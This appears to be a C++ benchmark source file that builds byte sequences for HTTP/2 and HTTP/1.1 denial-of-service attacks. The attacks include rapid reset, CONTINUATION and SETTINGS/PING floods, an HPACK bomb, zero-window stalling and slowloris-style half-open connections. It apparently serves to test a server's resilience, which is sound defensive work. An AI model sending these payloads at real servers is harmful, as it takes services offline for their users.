#include "bench/attack/units.h"

#include "userspace/base/text.h"
#include "userspace/http/h2_frame.h"

namespace sluice::bench {
namespace {

using http::H2FrameType;

constexpr std::string_view kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
constexpr uint8_t kWhole = http::kH2EndStream | http::kH2EndHeaders;

std::string Frame(H2FrameType type, uint8_t flags, uint32_t stream, std::string_view payload) {
  std::string out;
  http::PutFrameHeader({.size = static_cast<uint32_t>(payload.size()),
                        .type = static_cast<uint8_t>(type),
                        .flags = flags,
                        .stream = stream},
                       out);
  return out.append(payload);
}

// Both without Huffman coding, and shorter than 127 bytes (RFC 7541 section 5.2).
std::string Literal(char name_index, std::string_view value) {
  return std::string{name_index, static_cast<char>(value.size())}.append(value);
}

// :method GET is entry 2 of the static table and POST 3, :scheme http is 6; :path is named by 4,
// :authority by 1.
std::string Block(char method, std::string_view path, std::string_view authority) {
  return std::string{static_cast<char>(0x80 | method), '\x86'} + Literal('\x04', path) +
         Literal('\x01', authority);
}

std::string Begin(std::string_view settings = {}) {
  return base::Concat(kPreface, Frame(H2FrameType::kSettings, 0, 0, settings),
                      Frame(H2FrameType::kSettings, http::kH2Ack, 0, ""));
}

template <typename Make>
std::string Repeat(uint32_t count, Make make) {
  std::string all;
  for (uint32_t i = 0; i < count; ++i) all += make(2 * i + 1);
  return all;
}

// As many as may come at once before it is a flood: the attack that no limit ends.
std::string Resets(const std::string& block, uint32_t count) {
  return Repeat(count, [&](uint32_t id) {
    std::string pair = Frame(H2FrameType::kHeaders, kWhole, id, block);
    http::PutRstStream(id, http::H2Error::kCancel, pair);
    return pair;
  });
}

// A field of nearly the table's size, put there once and asked for again and again.
std::string HpackBomb(const std::string& block, uint32_t count, size_t repetitions) {
  // 3900 as an integer with a prefix of seven bits: 127, 61, 29.
  const std::string first = block + "\x40\x01x" + "\x7f\xbd\x1d" + std::string(3900, 'b');
  const std::string again = block + std::string(repetitions, '\xbe');
  return Repeat(count, [&](uint32_t id) {
    return Frame(H2FrameType::kHeaders, kWhole, id, id == 1 ? first : again);
  });
}

std::string Same(uint32_t count, const std::string& frame) {
  return Repeat(count, [&](uint32_t) { return frame; });
}

Attack ZeroWindow(const std::string& big) {
  std::string settings;
  http::PutSetting(http::H2Setting::kInitialWindowSize, 0, settings);
  return {.bytes = Begin(settings) + Repeat(100,
                                            [&](uint32_t id) {
                                              return Frame(H2FrameType::kHeaders, kWhole, id, big);
                                            }),
          .is_kept = true};
}

}  // namespace

std::string_view AttackNames() {
  return "rapid-reset,reset-flood,continuation,hpack-bomb,settings,ping,zero-window,one-byte,"
         "half-open,half-open-streams";
}

std::optional<Attack> AttackOf(std::string_view name, std::string_view authority) {
  const std::string get = Block(2, "/1k", authority);
  // "content-length: 99999999" behind it, without indexing (name 28).
  const std::string upload = Block(3, "/1k", authority) + "\x0f\x0d\x08" + "99999999";
  const auto open = [&](uint32_t id) {
    return Frame(H2FrameType::kHeaders, http::kH2EndHeaders, id, upload);
  };
  if (name == "rapid-reset") return Attack{.bytes = Begin() + Resets(get, 900)};
  if (name == "reset-flood") return Attack{.bytes = Begin() + Resets(get, 4000)};
  if (name == "continuation") {
    const std::string part = Frame(H2FrameType::kContinuation, 0, 1, "\x88");
    return Attack{.bytes = Begin() + Frame(H2FrameType::kHeaders, 0, 1, get) + Same(1000, part)};
  }
  if (name == "hpack-bomb") return Attack{.bytes = Begin() + HpackBomb(get, 3000, 100)};
  if (name == "settings") {
    std::string values;
    http::PutSetting(http::H2Setting::kMaxConcurrentStreams, 100, values);
    const std::string frame = Frame(H2FrameType::kSettings, 0, 0, values);
    return Attack{.bytes = Begin() + Same(5000, frame)};
  }
  if (name == "ping")
    return Attack{.bytes = Begin() + Same(5000, Frame(H2FrameType::kPing, 0, 0, "12345678"))};
  if (name == "zero-window") return ZeroWindow(Block(2, "/1m", authority));
  if (name == "one-byte") {
    const std::string byte = Frame(H2FrameType::kData, 0, 1, "x");
    return Attack{.bytes = Same(1000, byte),
                  .first = Begin() + open(1),
                  .is_kept = true,
                  .is_repeated = true};
  }
  if (name == "half-open")
    return Attack{.bytes = base::Concat("GET /1k HTTP/1.1\r\nHost: ", authority,
                                        "\r\nX-A: ", std::string(200, 'a')),
                  .is_kept = true};
  if (name == "half-open-streams")
    return Attack{.bytes = Begin() + Repeat(900, open), .is_kept = true};
  return std::nullopt;
}

}  // namespace sluice::bench
